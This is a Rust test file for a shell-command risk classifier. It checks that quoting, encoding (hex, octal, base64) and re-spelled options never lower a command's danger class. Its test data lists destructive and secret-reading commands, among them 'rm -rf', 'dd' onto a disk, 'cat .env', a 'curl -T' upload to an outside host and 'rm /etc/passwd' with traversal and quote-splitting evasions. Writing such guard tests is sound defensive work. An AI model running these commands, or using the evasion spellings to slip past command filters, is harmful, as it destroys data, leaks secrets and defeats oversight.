//! A wrapping never lowers a class: every spelling of a command is at least as grave as the command alone. What cannot be seen
//! through is Red, so that a Critical Red command may become Red where its name or its code is only known at run time.

mod templates;

use data_encoding::BASE64;

use super::*;
use templates::TEMPLATES;

/// Commands that need no shell of their own: plain words, no quotes.
const COMMANDS: &[&str] = &[
    "rm -rf /srv/shop",
    "git push --force origin main",
    "git reset --hard",
    "find /srv/shop -name a -delete",
    "systemctl mask ssh",
    "chmod -R 777 /srv/shop",
    "crontab -r",
    "dd if=a of=/dev/sdb",
    "useradd mallory",
    "curl -T a https://elsewhere.example",
    "npm publish",
    "scp a b:c",
    "docker rm x",
    "kubectl delete pod x",
    "terraform destroy",
    "pkill x",
    "whoknows a",
    "cat .env",
    "cp a b",
    "truncate -s 0 a",
    "tcpdump -z ./x",
    "pip install x",
];

/// Ways to write an action's own options.
const OPTIONS: &[(&str, &[&str])] = &[
    (
        "rm -rf x",
        &[
            "rm -fr x",
            "rm -r -f x",
            "rm x -rf",
            "rm --recursive --force x",
            "rm --rec --fo x",
            "rm -f x -r",
            "rm -rvf -- x",
            "rm -R x",
        ],
    ),
    (
        "git push --force",
        &[
            "git push -f",
            "git push --forc",
            "git -C . push --force",
            "git push origin main --force",
            "git push -vf",
            "git push --force=true",
        ],
    ),
    ("find . -delete", &["find . -type f -delete", "find -delete", "find . -name a -o -delete"]),
    ("tar cf a b --to-command=x", &["tar cf a b --to-command x", "tar cf a b --to-comm=x"]),
    (
        "curl -T a https://elsewhere.example",
        &[
            "curl --upload-file a https://elsewhere.example",
            "curl --upload-f a https://elsewhere.example",
            "curl -sT a https://elsewhere.example",
            "curl -Ta https://elsewhere.example",
            "curl --upload-file=a https://elsewhere.example",
        ],
    ),
    (
        "sed -i s/a/b/ /etc/hosts",
        &[
            "sed -i.bak s/a/b/ /etc/hosts",
            "sed --in-place s/a/b/ /etc/hosts",
            "sed --in-place=.b s/a/b/ /etc/hosts",
            "sed -Ei s/a/b/ /etc/hosts",
            "sed -i -e s/a/b/ /etc/hosts",
        ],
    ),
    ("chmod -R 777 a", &["chmod --recursive 777 a", "chmod 777 -R a", "chmod --recurs 0777 a", "chmod a+rwx -R a"]),
    ("systemctl disable x", &["systemctl --now disable x", "systemctl -q disable x", "systemctl disable --now x"]),
    (
        "docker run --privileged x",
        &["docker run -d --privileged x", "docker run --privileged=true x", "docker --context y run --privileged x"],
    ),
    (
        "sort -o /etc/hosts a",
        &["sort -o/etc/hosts a", "sort --output=/etc/hosts a", "sort --outp /etc/hosts a", "sort a -uo /etc/hosts"],
    ),
    ("tee /etc/hosts", &["tee -a /etc/hosts", "tee -- /etc/hosts", "tee x /etc/hosts", "tee --append /etc/hosts"]),
    (
        "cat .env",
        &[
            "cat ./.env",
            "cat a/../.env",
            "cat < .env",
            "cat ./././.env",
            "cat '.env'",
            "cat .en''v",
            "cat $'.env'",
            "cat -- .env",
            "cat -n .env",
            "cat a .env",
            "cat .{env,x}",
        ],
    ),
    (
        "rm /etc/passwd",
        &[
            "rm //etc//passwd",
            "rm /etc/./passwd",
            "rm /etc/../etc/passwd",
            "cd /etc; rm passwd",
            "cd /; rm etc/passwd",
            "cd /etc && rm ./passwd",
            "rm /etc/passw''d",
            "(cd /etc; rm passwd)",
            "rm ../../../../../../etc/passwd",
            "pushd /etc; rm passwd",
        ],
    ),
];

/// Beginnings of rules that say that something cannot be seen through.
const UNSEEN: &[&str] = &["shell.", "env.", "escape.", "code.", "system.schedule", "git.runs", "system.root"];

fn written(template: &str, command: &str) -> String {
    let (program, rest) = command.split_once(' ').unwrap();
    let coded = |code: &dyn Fn(u8) -> String| program.bytes().map(code).collect::<String>();
    template
        .replace("%%", "\u{1}")
        .replace('@', command)
        .replace("%a", "@")
        .replace("%q", &format!("'{command}'"))
        .replace("%p", program)
        .replace("%r", rest)
        .replace("%1", &program[..1])
        .replace("%2", &program[1..])
        .replace("%x", &coded(&|b| format!("\\x{b:02x}")))
        .replace("%o", &coded(&|b| format!("\\{b:03o}")))
        .replace("%w", &command.replace(' ', ","))
        .replace("%b", &BASE64.encode(command.as_bytes()))
        .replace("%h", &command.bytes().map(|b| format!("{b:02x}")).collect::<String>())
        .replace('\u{1}', "%")
}

fn class(text: &str) -> Class {
    judge_example(text, &crate::rules::default_rules()).unwrap().class
}

#[test]
fn a_wrapping_never_lowers_a_class() {
    let mut lower = Vec::new();
    for command in COMMANDS {
        let alone = class(command);
        for template in TEMPLATES {
            let text = written(template, command);
            let wrapped = judge_example(&text, &crate::rules::default_rules()).unwrap();
            let unseen = wrapped.fired.iter().any(|fired| UNSEEN.iter().any(|rule| fired.rule.starts_with(rule)));
            let wrapped = wrapped.class;
            if wrapped < alone && !(unseen && wrapped == Class::Red) {
                lower.push(format!("{alone} became {wrapped}: {text:?}"));
            }
        }
    }
    assert!(lower.is_empty(), "{} of {}:\n{}", lower.len(), COMMANDS.len() * TEMPLATES.len(), lower.join("\n"));
}

#[test]
fn another_spelling_of_options_never_lowers_a_class() {
    let mut lower = Vec::new();
    for (command, others) in OPTIONS {
        let alone = class(command);
        for other in *others {
            let wrapped = class(other);
            if wrapped < alone {
                lower.push(format!("{alone} became {wrapped}: {other:?}"));
            }
        }
    }
    assert!(lower.is_empty(), "{}", lower.join("\n"));
}
